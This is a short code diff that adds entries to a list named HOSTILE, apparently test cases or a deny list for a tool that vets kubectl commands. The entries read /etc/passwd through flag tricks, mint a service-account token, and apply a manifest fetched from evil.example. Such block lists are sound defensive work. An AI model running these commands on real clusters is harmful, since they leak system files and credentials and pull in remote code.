@@ -58,6 +58,10 @@ HOSTILE = [
     "kubectl get pods --v=9",
     "kubectl get pods --profile=cpu --profile-output=/tmp/p",
     "kubectl get pods --log-file=/tmp/log",
+    "kubectl get pods --kuberc=/etc/passwd",
+    "kubectl get pods -o=jsonpath-file=/etc/passwd",
+    "kubectl get pods -Ao jsonpath-file=/etc/passwd",
+    "kubectl create token default",
     # local files and the network
     "kubectl apply -f https://evil.example/x.yaml",
     "kubectl create -f /etc/passwd",
